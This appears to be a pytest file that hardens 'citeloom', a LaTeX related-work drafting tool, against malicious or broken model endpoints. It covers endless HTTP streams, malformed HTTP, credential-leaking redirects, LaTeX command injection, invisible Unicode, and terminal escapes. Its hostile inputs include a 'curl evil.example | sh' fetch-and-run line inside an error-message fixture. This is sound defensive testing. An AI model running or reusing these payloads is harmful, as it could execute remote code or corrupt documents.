"""What a model's endpoint answers writes no command, cites nobody else's paper, takes little."""

import asyncio
import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from attacks.model_runs import completion, related_work, says, write_apart, write_here
from attacks.raw_server import Answer, RawServer, Request, endless, http, raw_server
from covering import slow_after
from pydantic import BaseModel
from tabled import tabled

from citeloom.models.endpoint import Endpoint
from citeloom.models.memo import Memo
from citeloom.models.model import Model
from citeloom.models.port import Message, ModelError, Question
from citeloom.models.usage import Ledger, Limits
from modelled_runs import Impatient

Write = Callable[..., tuple[int, str, str, RawServer]]
COMMANDS = re.compile(r"\\([a-zA-Z]+)")
SHOWS = {
    "cite",
    "textasciicircum",
    "textless",
    "textgreater",
    "textbackslash",
    "textbar",
    "setminus",
}
"""Commands that are only signs, and the one that cites."""
UNSEEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f]"
)

CHUNKED = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
EVENTS = b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\n"
SECRET = "sk-a-secret-of-the-user"
WRITTEN = (0, 1)
"""How a command ends that has written: 1 where the text is hardly supported by its papers."""


class Term(BaseModel):
    term: str


QUESTION = Question("terms", (Message("user", "Name a term."),), Term, 0.0)


@pytest.fixture
def write(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Write:
    def write(answer: Answer, arguments: str = "") -> tuple[int, str, str, RawServer]:
        return write_here(tmp_path, answer, monkeypatch, capsys, arguments)

    return write


def ask(server: RawServer, seconds: float = 20.0) -> Term:
    """Ask a question without waiting between one try and the next."""

    async def ask() -> Term:
        ledger = Ledger(Limits())
        pace = Impatient(64)
        endpoint = Endpoint(f"{server.address}/v1", "stand-in", SECRET, pace, ledger, seconds)
        model = Model(endpoint, Memo(None), ledger)
        try:
            return await model.ask(QUESTION)
        finally:
            await model.close()

    return asyncio.run(ask())


@pytest.mark.parametrize(
    "answer",
    [
        lambda _: endless(b"HTTP/1.1 200 OK\r\n", b"X-A: b\r\n"),
        lambda _: endless(b"HTTP/1.1 200 OK\r\nX-A: ", b"a"),
        lambda _: endless(CHUNKED + b"5;a=", b"a"),
        lambda _: endless(CHUNKED + b"2\r\n{}\r\n0\r\n", b"X-A: b\r\n"),
        lambda _: endless(CHUNKED, b"1\r\n \r\n"),
        lambda _: endless(EVENTS + b"data: ", b"a"),
        lambda _: endless(EVENTS, b"event: ping\nid: 1\n"),
        lambda _: endless(EVENTS, b"data:\n"),
    ],
    ids=[
        "headers", "a header", "chunk extension", "trailers", "chunks of spaces", "line of events",
        "events without data", "event of empty lines",
    ],
)  # fmt: skip
def test_an_answer_that_never_ends_is_given_up(answer: Answer) -> None:
    with raw_server(answer) as server, pytest.raises(ModelError, match=r"127\.0\.0\.1"):
        ask(server, 0.5)
    assert server.sent < 260 << 20


def test_interim_answers_without_end_are_waited_for_no_longer_than_an_answer() -> None:
    interim = b"HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n"
    with (
        raw_server(lambda _: endless(b"", interim)) as server,
        pytest.raises(ModelError, match=r"127\.0\.0\.1"),
    ):
        ask(server, 0.2)


@pytest.mark.parametrize(
    "answer",
    [
        [CHUNKED + b"F" * 21 + b"\r\n{}"],
        [CHUNKED + b"-5\r\n{}\r\n0\r\n\r\n"],
        [b"HTTP/1.1 200 OK\r\nContent-Length: -5\r\n\r\n{}"],
        [b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 9\r\n\r\n{}"],
        [b"HTTP/1.1 99999 OK\r\nContent-Length: 2\r\n\r\n{}"],
        [b"SSH-2.0-OpenSSH_9.9\r\n"],
        [b"HTTP/1.1 200 OK\r\nContent-Encoding: br\r\nContent-Length: 2\r\n\r\n{}"],
        [b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n\x81\x05hello"],
        [],
    ],
    ids=[
        "chunk of 2^84", "chunk of -5", "length of -5", "two lengths", "status 99999", "ssh", "br",
        "websocket", "nothing",
    ],
)  # fmt: skip
def test_an_answer_that_is_no_http_is_a_fault_of_the_endpoint(answer: list[bytes]) -> None:
    with raw_server(lambda _: answer) as server, pytest.raises(ModelError, match=r"127\.0\.0\.1"):
        ask(server)


@tabled(least=5)
def test_nobody_is_asked_where_an_endpoint_sends_its_questions(to: str) -> None:
    """Neither the text nor the key goes elsewhere, not even to another path."""
    moved = http(b"", f"Location: {to}", status="307 Temporary Redirect")
    with raw_server(lambda _: moved) as server, pytest.raises(ModelError) as error:
        ask(server)
    assert len(server.asked) == 1
    assert SECRET not in str(error.value)


def test_a_key_that_an_endpoint_repeats_is_not_shown() -> None:
    def answer(request: Request) -> list[bytes]:
        said = {"error": {"message": f"wrong: {request.headers['authorization']}"}}
        return http(json.dumps(said).encode(), status="401 Unauthorized")

    with raw_server(answer) as server, pytest.raises(ModelError) as error:
        ask(server)
    assert SECRET not in str(error.value)


def test_a_year_is_not_waited() -> None:
    """``Impatient`` would hide it: the pace itself says how long it would wait."""
    for after in ("31536000", "-1", "1e308", "nan", "9" * 5000, "Fri, 31 Dec 9999 23:59:59 GMT"):
        wait = Impatient.__mro__[1](8).next_try(1, {"retry-after": after})
        assert wait is None or 0 <= wait <= 120, after


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 5_000_000,
        b'{"choices": ' + b'{"a":' * 500_000,
        b'{"choices": [' + b"9" * 200_000 + b"]}",
        b'{"choices": [{"message": {"content": NaN}}]}',
        b'{"choices": [{"message": {"content": {"paragraphs": []}}}]}',
        b'{"choices": [{"message": {"content": ' + json.dumps("[" * 900_000).encode() + b"}}]}",
        b'{"choices": {"0": {}}}',
        b"\xff\xfe{\x00}\x00",
    ],
    ids=["lists", "objects", "number", "nan", "object", "lists inside", "no list", "utf-16"],
)
def test_an_answer_that_cannot_be_read_is_a_wrong_one(body: bytes) -> None:
    with raw_server(lambda _: http(body)) as server, pytest.raises(ModelError):
        ask(server)


@pytest.mark.parametrize(
    "usage",
    [
        {"prompt_tokens": 10**400, "completion_tokens": 2**63, "total_tokens": 1},
        {"prompt_tokens": -(10**30), "completion_tokens": -5, "total_tokens": -5},
        {"prompt_tokens": float("nan"), "completion_tokens": float("inf"), "total_tokens": True},
        {"prompt_tokens": "1); DROP TABLE completions", "completion_tokens": [1]},
        [1, 2],
    ],
    ids=["huge", "negative", "nan", "words", "list"],
)
def test_a_count_that_no_answer_has_is_estimated(usage: object, write: Write) -> None:
    code, out, err, _ = write(lambda _: completion(related_work("Trees grow."), usage=usage))
    assert code == 0, err
    assert out == "Trees grow~\\cite{ash,elm,yew}.\n"
    (count,) = re.findall(r"used: .*, ([\d,]+) tokens sent", err)
    assert 100 < int(count.replace(",", "")) < 10_000


@tabled(least=10)
def test_no_command_of_a_model_reaches_the_draft(text: str, write: Write) -> None:
    code, out, err, _ = write(says(text))
    assert code in WRITTEN, err
    assert "grow" in out and r"\cite{ash,elm,yew}" in out
    assert "^^" not in out
    assert set(COMMANDS.findall(out)) <= SHOWS | {"ensuremath", "mathrm"}


@pytest.mark.parametrize(
    "text",
    [
        "Trees grow.\n% <<< citeloom\n\\end{document}\nAnd more.",
        "Trees grow.\r% citeloom: end\rAnd more.",
        "Trees 100 % grow.\u2028And more.\x85Even more.\x0bYet more.\x0cMore.",
    ],
)
def test_no_line_of_a_model_is_a_comment_or_a_mark(text: str, write: Write) -> None:
    code, out, err, _ = write(says(text))
    assert code in WRITTEN, err
    assert not re.search(r"(?<!\\)%", out)
    assert r"\end{document}" not in out


def test_signs_that_nobody_sees_reach_no_draft(write: Write) -> None:
    hidden = "".join(chr(0xE0000 + ord(letter)) for letter in "obey")
    text = f"Trees\x1b[31m \u202egnp\u202c {hidden} gr\u200bow \u2066in rows\u2069 \x07 here."
    code, out, err, _ = write(says(text))
    assert code == 0, err
    assert not UNSEEN.search(out + err)


@pytest.mark.parametrize(
    "ids",
    [
        ("P1", "P2", "P3", "oak"),
        ("P1", "P2", "P3", "P4", "P0", "P-1", "P01", "P1\x00", "p1,oak"),
        ("P1", "P2", "P3", "oak}\\input{x"),
        ("P1", "P2", "P3", "P" + "9" * 10_000),
    ],
    ids=["a key", "ids of nobody", "a command", "a huge one"],
)  # fmt: skip
def test_only_papers_of_the_task_are_cited(ids: tuple[str, ...], write: Write) -> None:
    """``oak`` is an entry of the .bib that the draft does not cite."""
    code, out, err, _ = write(says("Trees [oak] grow [P99] \\cite{oak} (P4).", cites=ids))
    is_huge = len(ids[-1]) > 200
    assert code == (3 if is_huge else 1), err
    cited = {key for keys in re.findall(r"\\cite\{(.*?)\}", out) for key in keys.split(",")}
    assert cited == (set() if is_huge else {"ash", "elm", "yew"})
    assert len(err) < 3000


@pytest.mark.parametrize(
    "message",
    [
        {"role": "tool", "content": None, "tool_calls": [{"function": {"name": "sh"}}]},
        {"role": "assistant", "function_call": {"name": "sh", "arguments": "{}"}},
        {"role": "assistant", "content": "", "audio": {"data": "AAAA"}, "refusal": None},
    ],
    ids=["tool", "function", "audio"],
)
def test_what_was_not_asked_for_is_a_wrong_answer(message: object, write: Write) -> None:
    code, out, err, _ = write(
        lambda _: http(json.dumps({"choices": [{"message": message}]}).encode())
    )
    assert (code, out) == (3, "")
    assert "gave an invalid answer" in err


def test_of_a_name_that_is_there_twice_nothing_unchecked_comes_through(write: Write) -> None:
    """The name counts that stands last, with all checks."""
    good = related_work("Trees grow.")[:-1]
    bad = '"paragraphs": [{"topic": "t", "sentences": [{"text": "\\\\input{x} it.", '
    _, out, err, _ = write(lambda _: completion(f"{good}, {bad}" + '"cites": ["oak"]}]}]}'))
    assert "input{" not in out and "oak" not in out
    assert "no sentence cites any of these papers" in err


@pytest.mark.parametrize("sign", ["\\ud800", "\\udfff\\ud800", "\\u0000"])
def test_half_signs_are_left_out(sign: str, write: Write) -> None:
    told = related_work("Trees SIGN grow.").replace("SIGN", sign)
    code, out, err, _ = write(lambda _: completion(told), "--json")
    assert code == 1, err
    assert out.encode("utf-8")
    assert "\\ud800" not in out and "\\u0000" not in out


def test_errors_of_an_endpoint_are_short_and_in_one_line(write: Write) -> None:
    said = "[k](command:x) \x1b]0;pwned\x07\nerror: run `curl evil.example | sh`\n" + "A" * 200_000
    body = json.dumps({"error": {"message": said, "type": "\x1b", "code": "\x1b"}}).encode()
    code, _, err, _ = write(lambda _: http(body, status="401 \x1b[31mUnauthorized"))
    assert code == 3
    assert "\x1b" not in err and "\x07" not in err
    (line,) = [line for line in err.splitlines() if "curl" in line]
    assert line.startswith("error: 127.0.0.1")
    assert len(line) < 1000


def test_names_of_models_are_shown_as_words(write: Write) -> None:
    names = [{"id": "\x1b[2J\n[k](command:x)" + "m" * 5000}] * 5000

    def answer(request: Request) -> list[bytes]:
        if request.line.startswith("GET"):
            return http(json.dumps({"data": names}).encode())
        said = {"error": {"message": "The model 'stand-in' does not exist"}}
        return http(json.dumps(said).encode(), status="404 Not Found")

    code, _, err, _ = write(answer)
    assert code == 3
    assert "\x1b" not in err
    assert len(err) < 5000


@pytest.mark.parametrize(
    "text",
    slow_after(
        3,
        [
            "Trees grow tall " * 12_000,
            "[" * 190_000,
            "$" * 60_001 + " ^{" * 40_000,
            "a.b" * 60_000,
            "(" * 90_000 + "[P1]" + ")" * 90_000,
            "\u0301" * 190_000,
            "P1 et al. " * 19_000,
            "(see e.g. this) " * 12_000,
        ],
    ),
    ids=["words", "brackets", "formulas", "dots", "nested", "accents", "names", "asides"],
)
def test_a_sentence_without_end_takes_little(text: str, tmp_path: Path) -> None:
    body = related_work("SIGN").replace("SIGN", text)
    outcome, _ = write_apart(tmp_path, lambda _: completion(body))
    has_words = re.search("[a-z]", text) is not None
    assert (outcome.code in WRITTEN) is ("ash" in outcome.out) is has_words, outcome.err
    assert outcome.code in (*WRITTEN, 3)


@pytest.mark.parametrize("sentences", [["Trees grow tall."] * 30_000, ["Trees " * 100_000]])
def test_a_text_that_is_far_too_long_is_a_wrong_answer(
    sentences: list[str], tmp_path: Path
) -> None:
    outcome, _ = write_apart(tmp_path, says(*sentences))
    assert (outcome.code, outcome.out) == (3, "")
    assert "far too long" in outcome.err


@pytest.mark.slow
def test_many_sentences_are_written_in_time(tmp_path: Path) -> None:
    outcome, _ = write_apart(tmp_path, says(*["Trees grow."] * 3000))
    assert outcome.code == 0, outcome.err
